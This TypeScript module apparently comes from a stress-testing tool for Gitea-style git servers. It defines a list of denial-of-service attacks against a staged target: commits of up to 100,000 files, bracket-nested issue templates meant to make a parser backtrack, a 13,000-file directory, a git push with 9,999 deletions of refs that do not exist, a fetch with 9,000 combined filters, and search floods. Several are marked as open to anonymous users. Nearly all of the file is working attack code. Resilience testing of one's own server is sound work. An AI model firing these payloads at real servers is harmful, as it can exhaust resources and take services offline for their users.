import { basicHeaders, requireApi, tokenHeaders } from '../api.ts'
import { getter } from '../endpoints.ts'
import type { Call } from '../load/load.ts'
import { post, type Attack, type Stage } from './attack.ts'

const base64 = (text: string): string => Buffer.from(text).toString('base64')

const write = (name: string, files: number): Attack => ({
  name,
  who: 'any account',
  requests: (stage) => [
    post(stage, `/repos/${stage.repo}/contents`, {
      token: stage.target.token,
      body: JSON.stringify({
        message: 'many',
        files: Array.from({ length: files }, (_, i) => ({
          operation: 'create',
          path: `many-${files}/${i % 100}/f${i}.txt`,
          content: base64(`${i}\n`),
        })),
      }),
    }),
  ],
})

const TEMPLATES = 12
const TEMPLATE_BYTES = 65_000

/** Nested so that a reader which backtracks reads each bracket many times. */
const template = (i: number): string => `name: t${i}\nabout: a\nbody: ${'[{a: '.repeat(TEMPLATE_BYTES / 5)}`

const commitFiles = async (
  { target, repo }: Stage,
  files: readonly { readonly path: string; readonly content: string }[],
): Promise<void> => {
  await requireApi(target.url, {
    method: 'POST',
    path: `/repos/${repo}/contents`,
    headers: tokenHeaders(target),
    body: { message: 'files', files: files.map((file) => ({ operation: 'create', ...file })) },
  })
}

const addTemplates = (stage: Stage): Promise<void> =>
  commitFiles(
    stage,
    Array.from({ length: TEMPLATES }, (_, i) => ({
      path: `.gitea/issue_template/t${i}.yaml`,
      content: base64(template(i)),
    })),
  )

const WIDE_COMMITS = 13
const FILES_OF_COMMIT = 1_000

/** One directory of 13,000 files. */
async function addWideDirectory(stage: Stage): Promise<void> {
  for (let commit = 0; commit < WIDE_COMMITS; commit++) {
    await commitFiles(
      stage,
      Array.from({ length: FILES_OF_COMMIT }, (_, i) => ({
        path: `wide/file-${commit}-${i}.txt`,
        content: base64(`${commit} ${i}\n`),
      })),
    )
  }
}

const pkt = (text: string): string => (text.length + 4).toString(16).padStart(4, '0') + text
const NO_OID = '0'.repeat(40)

/** One request of git over HTTP. */
const gitCall = ({ target, repo }: Stage, service: string, body: string): Call => ({
  method: 'POST',
  url: `${target.url}/${repo}.git/${service}`,
  headers: {
    ...basicHeaders(target.login, target.token),
    'content-type': `application/x-${service}-request`,
    'git-protocol': 'version=2',
  },
  body,
})

const DELETIONS = 9_999

/** Deletes refs that do not exist. */
const deletions = (stage: Stage): Call => {
  const lines = Array.from({ length: DELETIONS }, (_, i) =>
    pkt(`${'a'.repeat(40)} ${NO_OID} refs/heads/none${i}${i === 0 ? '\0report-status delete-refs' : ''}`),
  )
  return gitCall(stage, 'git-receive-pack', `${lines.join('')}0000`)
}

const combinedFilters = (stage: Stage): Call => {
  const filter = pkt(`filter combine:${'tree:1+'.repeat(9_000)}tree:1\n`)
  return gitCall(stage, 'git-upload-pack', `${pkt('command=fetch\n')}0001${filter}${pkt('done\n')}0000`)
}

export const REPOSITORY_ATTACKS: readonly Attack[] = [
  write('1,000 files in one commit', 1_000),
  write('4,000 files in one commit', 4_000),
  write('100,000 files in one commit', 100_000),
  {
    name: '12 issue templates of 65 KB',
    who: 'any account',
    prepare: addTemplates,
    requests: ({ target, repo }) => [getter(target)(`/repos/${repo}/issue_templates`)()],
  },
  {
    name: 'a directory of 13,000 files',
    who: 'anonymous',
    prepare: addWideDirectory,
    requests: ({ target, repo }) => [getter(target)(`/repos/${repo}/contents/wide`, {})()],
  },
  { name: 'a push of 9,999 deletions', who: 'any account', requests: (stage) => [deletions(stage)] },
  { name: 'a fetch with 9,000 filters', who: 'anonymous', requests: (stage) => [combinedFilters(stage)] },
  {
    name: '200 searches at once',
    who: 'anonymous',
    beside: 'file',
    requests: ({ target }) =>
      Array.from({ length: 200 }, (_, i) => getter(target)(`/repos/search?limit=50&q=${'x'.repeat(i)}`, {})()),
  },
  {
    name: '50 searches with 500 signs of %',
    who: 'anonymous',
    requests: ({ target }) =>
      Array.from({ length: 50 }, () => getter(target)(`/repos/search?q=${'%25'.repeat(500)}`, {})()),
  },
]
